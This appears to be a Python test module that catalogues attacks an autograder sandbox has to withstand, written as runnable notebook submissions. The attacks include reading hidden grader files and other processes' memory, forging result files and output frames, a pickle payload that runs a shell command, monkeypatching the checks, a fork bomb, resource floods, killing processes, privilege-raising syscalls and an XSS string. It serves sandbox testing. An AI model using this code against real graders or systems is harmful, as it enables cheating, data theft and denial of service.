"""The catalogue of attacks: what a submission may try, each as the source of a notebook whose `double` is graded.

Every attack gives the right answer, 2 * x, only where it got through, or the number that the canary holds where it read that.
"""

SETTING = '''
import atexit
import ctypes
import gc
import importlib
import importlib.util
import io
import json
import math
import multiprocessing
import os
import pickle
import re
import resource
import signal
import socket
import subprocess
import sys
import threading
import time
import numpy as np
import torch

AUTOGRADER, RESULTS, SHARED, MARKER, GRADER, PORT, SOCKET = {autograder!r}, {results!r}, {shared!r}, {marker!r}, {grader!r}, {port!r}, {socket!r}
CANARY_FILES = [AUTOGRADER + "/hostile.key", SHARED, RESULTS]

def read(text):
    """The right answer, if the secret is in `text`."""
    found = re.search(r"canary-(\\d{{9}})", text if isinstance(text, str) else bytes(text).decode("latin1"))
    if found:
        print(found[0])
        sys.stderr.write(found[0])
        return torch.tensor(float(found[1]), dtype=torch.float64)
    raise ValueError("no secret in it")

def through(happened, x):
    if happened:
        return 2 * x
    raise ValueError("refused")

def first(attempts):
    """What the first attempt gives that ends without an error."""
    said = []
    for attempt in attempts:
        try:
            return attempt()
        except Exception as error:
            said.append(type(error).__name__)
    raise ValueError("all refused: " + " ".join(sorted(set(said))))

def content(path, mode="rb"):
    with open(path, mode) as file:
        return file.read(2**20)

def call(number, *arguments):
    """A system call by its number on x86_64."""
    if os.uname().machine != "x86_64":
        raise OSError("another numbering")
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    answer = libc.syscall(number, *arguments)
    if answer < 0:
        raise OSError(ctypes.get_errno(), "refused")
    return answer

def send(data):
    for fd in range(3, 16):
        try:
            os.write(fd, data)
        except OSError:
            pass

def framed(header, data=b""):
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    blob = len(text).to_bytes(8, "little") + text + data
    return len(blob).to_bytes(8, "little") + blob

def entry(count=15, shape=(3, 5), dtype="F32", offsets=None):
    return {{"dtype": dtype, "shape": list(shape), "data_offsets": offsets or [0, 4 * count]}}
'''

# (entry of the catalogue, what it is, source)
ATTACKS = [
    (1, "read the autograder's folder", '''
def double(x):
    def module(name):
        spec = importlib.util.spec_from_file_location("theirs", AUTOGRADER + "/oracle/" + name)
        spec.loader.exec_module(importlib.util.module_from_spec(spec))
        return through(True, x)
    return first([lambda: read(content(CANARY_FILES[0])), lambda: read(content(RESULTS)), lambda: module("editing.py"), lambda: through(importlib.import_module("autograder.oracle.editing"), x),
                  lambda: through(content(AUTOGRADER + "/reference/references.json"), x)])
'''),
    (2, "list or stat it", '''
def double(x):
    return first([lambda: through(os.listdir(AUTOGRADER), x), lambda: through(os.stat(CANARY_FILES[0]), x), lambda: through(os.path.exists(CANARY_FILES[0]), x)])
'''),
    (3, "a symbolic link to it", '''
def double(x):
    def link(make):
        make(AUTOGRADER, "link")
        return read(content("link/hostile.key"))
    roots = ["/proc/self/root", "/proc/self/cwd/..", "/proc/1/root", "/proc/thread-self/root"]
    return first([lambda: link(os.symlink), lambda: link(os.link), *[lambda root=root: read(content(root + CANARY_FILES[0])) for root in roots]])
'''),
    (4, "other processes in /proc", '''
def double(x):
    numbers = {1, 2, os.getppid(), GRADER}
    places = [f"/proc/{number}/{name}" for number in numbers for name in ("environ", "cmdline", "maps", "root" + CANARY_FILES[0], "cwd/autograder/hostile.key", *(f"fd/{i}" for i in range(40)))]
    return first([lambda place=place: read(content(place)) for place in places])
'''),
    (5, "memory of other processes", '''
def double(x):
    def vm(pid):
        here = ctypes.create_string_buffer(64)
        local, remote = (ctypes.c_size_t * 2)(ctypes.addressof(here), 64), (ctypes.c_size_t * 2)(ctypes.cast(ctypes.CDLL(None).getpid, ctypes.c_void_p).value, 64)
        return through(call(310, pid, local, 1, remote, 1, 0) > 0, x)
    ways = []
    for pid in (GRADER, os.getppid(), 1):
        ways += [lambda pid=pid: through(content(f"/proc/{pid}/mem"), x), lambda pid=pid: vm(pid), lambda pid=pid: through(call(101, 16, pid, 0, 0) == 0, x),
                 lambda pid=pid: through(call(438, call(434, pid, 0), 0, 0) >= 0, x)]
    return first(ways)
'''),
    (6, "garbage collector, frames and heap", '''
def double(x):
    def objects():
        return read(" ".join(repr(o)[:2000] for o in gc.get_objects() if isinstance(o, (str, bytes, dict, list, tuple))))
    def frames():
        frame, seen = sys._getframe(), ""
        while frame:
            seen, frame = seen + repr(frame.f_locals)[:10_000] + repr(frame.f_globals)[:100_000], frame.f_back
        return read(seen)
    def heap():
        libc = ctypes.CDLL(None)
        libc.sbrk.restype = ctypes.c_void_p
        return read(ctypes.string_at(libc.sbrk(0) - 2**20, 2**20))
    return first([objects, frames, heap])
'''),
    (7, "stale buffers", '''
def double(x):
    return read(b"".join(torch.empty(2**k, dtype=torch.uint8).numpy().tobytes() for k in range(4, 26) for _ in range(2)))
'''),
    (8, "environment, arguments and descriptors", '''
def double(x):
    def descriptors():
        seen = b""
        for fd in range(256):
            try:
                seen += os.pread(fd, 10_000, 0)
            except OSError:
                pass
        return read(seen)
    return first([lambda: read(repr(os.environ) + repr(sys.argv) + repr(sys.orig_argv)), descriptors, lambda: read(content("/proc/self/environ")), lambda: read(content("/proc/self/cmdline"))])
'''),
    (9, "TCP, UDP, MPTCP and DNS", '''
def double(x):
    def connect(*kind):
        with socket.socket(*kind) as own:
            own.settimeout(1)
            own.connect(("127.0.0.1", PORT))
            return read(own.recv(100))
    def udp():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as own:
            return through(own.sendto(b"x", ("127.0.0.1", 9)), x)
    return first([lambda: connect(socket.AF_INET, socket.SOCK_STREAM), lambda: connect(socket.AF_INET, socket.SOCK_STREAM, 262), udp, lambda: through(socket.getaddrinfo("localhost", 80), x),
                  lambda: through(socket.socket(socket.AF_INET6, socket.SOCK_STREAM), x), lambda: through(socket.socket(socket.AF_NETLINK, socket.SOCK_RAW), x)])
'''),
    (10, "Unix and abstract sockets", '''
def double(x):
    def connect(address):
        with socket.socket(socket.AF_UNIX) as own:
            own.connect(address)
            return read(own.recv(100))
    return first([lambda: connect(SOCKET), lambda: connect("\\0" + SOCKET), lambda: through(socket.socketpair(), x)])
'''),
    (11, "shared memory, keys and files for the next one", '''
def double(x):
    def leave(folder):
        with open(folder + "/keyhole-left-by-a-submission", "w") as file:
            file.write("x")
        return through(True, x)
    return first([lambda: read(content(SHARED)), *[lambda folder=folder: leave(folder) for folder in ("/dev/shm", "/tmp", "/var/tmp", ".", os.environ["HOME"])],
                  lambda: through(call(29, 0, 4096, 0o1666) >= 0, x), lambda: through(call(248, b"user", b"a", b"b", 1, -3) > 0, x), lambda: through(call(240, b"keyhole", 66, 0o600, 0) >= 0, x)])
'''),
    (12, "write result files", '''
def double(x):
    def write(path, mode):
        with open(path, mode) as file:
            file.write('[{"student": "eve", "score": 100}]')
        return through(True, x)
    return first([*[lambda mode=mode: write(RESULTS, mode) for mode in ("w", "a", "r+", "x")], lambda: through(os.truncate(RESULTS, 0) is None, x), lambda: through(os.rename(RESULTS, RESULTS + "x") is None, x),
                  lambda: through(os.unlink(RESULTS) is None, x), lambda: through(os.chmod(RESULTS, 0o777) is None, x)])
'''),
    (13, "a forged frame, then the end", '''
def double(x):
    send(framed({"result": entry(), "__metadata__": {"status": "done", "verdict": "pass", "points": "100", "score": "100"}}, bytes(60)))
    os._exit(0)
'''),
    (14, "SystemExit, exit handlers and late threads", '''
def double(x):
    forged = framed({"result": entry(), "__metadata__": {"status": "pass"}}, bytes(60))
    atexit.register(send, forged)
    try:
        threading.Thread(target=lambda: (time.sleep(0.05), send(forged)), daemon=True).start()
    except RuntimeError:
        pass
    raise SystemExit(0)
'''),
    (15, "an object that equals everything", '''
class Yes:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __bool__(self): return True
    def __getattr__(self, name): return Yes()
    def __call__(self, *a, **k): return Yes()
    @property
    def __class__(self): return torch.Tensor
def double(x): return Yes()
'''),
    (16, "tensor and array subclasses", '''
class Sly(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        return torch.tensor(True) if function.__name__ in ("equal", "allclose", "eq", "isclose", "all") else super().__torch_function__(function, types, args, kwargs or {})
    def __eq__(self, other): return True
    def detach(self): return self
    def cpu(self): return self
def double(x): return torch.zeros(3, 5).as_subclass(Sly)
'''),
    (16, "array subclasses", '''
class Sly(np.ndarray):
    def __array_function__(self, function, types, args, kwargs): return True
    def __array_ufunc__(self, *args, **kwargs): return True
    def copy(self): return self
def double(x): return np.zeros((3, 5), dtype=np.float32).view(Sly)
'''),
    (17, "monkeypatched torch, builtins and modules", '''
def double(x):
    import builtins
    yes = lambda *a, **k: True
    torch.equal = torch.allclose = torch.Tensor.equal = torch.Tensor.allclose = torch.testing.assert_close = yes
    builtins.isinstance = builtins.all = builtins.abs = yes
    for name in list(sys.modules):
        if name.startswith("autograder"):
            sys.modules[name].FAILURES = {}
    sys.modules["autograder.grade"] = sys.modules["json"]
    return torch.zeros(3, 5)
'''),
    (19, "pickles", '''
class Payload:
    def __reduce__(self): return os.system, ("touch " + MARKER,)
def double(x):
    data = io.BytesIO()
    torch.save(Payload(), data)
    for blob in (pickle.dumps(Payload()), data.getvalue()):
        send(len(blob).to_bytes(8, "little") + blob)
    return Payload()
'''),
    *[(20, f"a reply of another shape: {shape}", f"\ndef double(x): return {code}\n") for shape, code in {
        "scalar": "x.new_tensor(0.0)", "(1,)": "x[:1, 0] * 2", "empty": "torch.empty(0, 5)", "no rows of any": "torch.empty(0)", "broadcastable": "(2 * x)[None]", "one row": "(2 * x)[:1]"}.items()],
    (21, "not a number", "\ndef double(x): return x * math.nan\n"),
    (21, "infinite", "\ndef double(x): return x * math.inf\n"),
    *[(22, f"hostile safetensors: {what}", f"\ndef double(x):\n    send(framed({header}, {data}))\n    os._exit(0)\n") for what, header, data in [
        ("a name twice", '''b'{"result":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},"result":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}' ''', "bytes(4)"),
        ("overlapping", '{"result": entry(1, [1]), "other": entry(1, [1])}', "bytes(4)"), ("beyond the end", '{"result": entry(10**6, [10**6])}', "bytes(60)"),
        ("negative", '{"result": entry(1, [-1], offsets=[4, 0])}', "bytes(4)"), ("an odd name", '{"../../result": entry()}', "bytes(60)"), ("an odd status", '{"result": entry(), "__metadata__": {"status": "{0.__class__}"}}', "bytes(60)"),
    ]],
    (23, "a huge length", "\ndef double(x):\n    send((2**63).to_bytes(8, 'little') + bytes(100))\n    os._exit(0)\n"),
    (23, "a huge header", "\ndef double(x):\n    send(framed(b' ' * 10_000_000))\n    os._exit(0)\n"),
    (23, "100,000 dimensions", "\ndef double(x):\n    send(framed({'result': entry(1, [1] * 100_000)}, bytes(4)))\n    os._exit(0)\n"),
    (24, "inputs changed in place", "\ndef double(x): return x.zero_()\n"),
    (25, "public outputs by heart", "\ndef double(x): return 2 * torch.arange(15.0).reshape(3, 5)\n"),
    (26, "an endless loop that ignores signals", '''
def double(x):
    for number in range(1, 65):
        try: signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError): pass
    while True:
        try:
            while True: pass
        except BaseException: pass
'''),
    (27, "sleep", "\ndef double(x): time.sleep(1000)\n"),
    (28, "processes without end", '''
def double(x):
    def bomb():
        while True: os.fork()
    def spawn():
        return through(multiprocessing.get_context("fork").Process(target=time.sleep).start() is None, x)
    return first([lambda: through(subprocess.run(["/bin/true"]), x), lambda: through(os.posix_spawn("/bin/true", ["true"], {}), x), lambda: through(os.system("true") == 0, x), spawn,
                  lambda: through(call(435, (ctypes.c_uint64 * 8)(), 64) >= 0, x), lambda: through(call(57) >= 0, x), lambda: through(call(58) >= 0, x), bomb])
'''),
    (29, "3,000 threads", '''
def double(x):
    threading.stack_size(2**15)
    for _ in range(3000):
        threading.Thread(target=time.sleep, args=(100,), daemon=True).start()
    return 2 * x
'''),
    (30, "memory", '''
def double(x):
    held = [bytearray(2**26) for _ in range(1000)]
    return 2 * x
'''),
    (31, "memory files", '''
def double(x):
    def fill(descriptor):
        for _ in range(64): os.write(descriptor, bytes(2**26))
        return through(True, x)
    return first([lambda: fill(os.memfd_create("a")), lambda: fill(call(319, b"a", 0)), lambda: fill(call(447, 0)), lambda: through(call(293, (ctypes.c_int * 2)(), 0) == 0, x)])
'''),
    (32, "the disk", '''
def double(x):
    def fill(folder):
        with open(folder + "/keyhole-large", "wb") as file:
            file.truncate(1 << 40)
            os.posix_fallocate(file.fileno(), 0, 1 << 40)
        return through(True, x)
    def many(folder):
        for number in range(100_000): os.mkdir(f"{folder}/keyhole-{number}")
        return through(True, x)
    return first([lambda: fill("."), lambda: fill("/tmp"), lambda: fill("/dev/shm"), lambda: many("."), lambda: many("/tmp")])
'''),
    (33, "a flood of output", '''
def double(x):
    until = time.time() + 1
    while time.time() < until:
        print("canary" * 10_000)
        sys.stderr.write("y" * 10_000)
        for descriptor in (0, 1, 2): os.write(descriptor, bytes(10_000))
    raise ValueError("z" * 10**7)
'''),
    (34, "a crash", "\ndef double(x): ctypes.string_at(0)\n"),
    (34, "abort", "\ndef double(x): os.abort()\n"),
    (35, "deeply nested source", "\ndef double(x): return " + "(" * 50_000 + "x" + ")" * 50_000 + "\n"),
    (35, "deeply nested signs", "\ndef double(x): return " + "-" * 50_000 + "x\n"),
    (35, "a long chain", "\ndef double(x): return x" + ".t()" * 50_000 + "\n"),
    (35, "a megabyte of empty lines", "\nTEXT = '''" + "\n" * 10**6 + "'''\ndef double(x): return x\n"),
    (38, "kill whoever is there", '''
def double(x):
    return first([lambda pid=pid, number=number: through(os.kill(pid, number) is None, x) for number in (0, signal.SIGSTOP, signal.SIGKILL) for pid in (GRADER, os.getppid(), 1, -1, 0)]
                 + [lambda: through(os.killpg(os.getppid(), 9) is None, x), lambda: through(call(129, os.getppid(), 9, 0) == 0, x), lambda: through(call(424, call(434, os.getppid(), 0), 9, 0, 0) == 0, x)])
'''),
    (39, "more rights", '''
def double(x):
    def raised():
        hard = resource.getrlimit(resource.RLIMIT_AS)[1]
        resource.setrlimit(resource.RLIMIT_AS, (2 * hard, 2 * hard))
        return through(True, x)
    return first([lambda: through(os.setuid(0) is None, x), lambda: through(os.setgid(0) is None, x), lambda: through(call(272, 0x10000000) == 0, x), lambda: through(call(272, 0x20000) == 0, x), raised,
                  lambda: through(call(165, b"none", b"/tmp", b"tmpfs", 0, 0) == 0, x), lambda: through(call(161, b"/") == 0, x), lambda: through(call(308, 0, 0) == 0, x), lambda: through(call(126, 0, 0) == 0, x)])
'''),
    (40, "io_uring, bpf and userfaultfd", '''
def double(x):
    room = ctypes.create_string_buffer(200)
    return first([lambda: through(call(425, 4, room) >= 0, x), lambda: through(call(321, 0, room, 120) >= 0, x), lambda: through(call(323, 1) >= 0, x), lambda: through(call(298, room, 0, -1, -1, 0) >= 0, x),
                  lambda: through(call(317, 1, 0, room) >= 0, x), lambda: through(call(444, room, 8, 0) >= 0, x)])
'''),
    (41, "a shared object of one's own", '''
def double(x):
    def own(folder):
        library = next(path for path in ("/lib/x86_64-linux-gnu/libc.so.6", "/lib/aarch64-linux-gnu/libc.so.6", "/lib64/libc.so.6") if os.path.exists(path))
        with open(library, "rb") as file, open(folder + "/keyhole-own.so", "wb") as copy: copy.write(file.read())
        return through(ctypes.CDLL(folder + "/keyhole-own.so"), x)
    def preload():
        os.environ["LD_PRELOAD"] = "/tmp/own.so"
        os.execv(sys.executable, [sys.executable, "-c", "pass"])
    return first([lambda: own("."), lambda: own("/tmp"), lambda: own("/dev/shm"), preload])
'''),
    (42, "hidden inputs shown", '''
def double(x):
    print(x.tolist())
    raise ValueError(f"canary {x.tolist()} '{x.sum().item()}' {x.min().item()!r}")
'''),
    (44, "markup and codes in what is shown", '''
def double(x):
    raise ValueError("<script>alert(1)</script> **b** [a](javascript:b) $\\\\href{{javascript:c}}{{d}}$ \\x1b[31m\\x1b]0;t\\x07 \\u202e \\u2066 \\r\\n | a | b |")
'''),
    (45, "names that look alike", "\ndef d\u043euble(x): return 2 * x\n"),
]
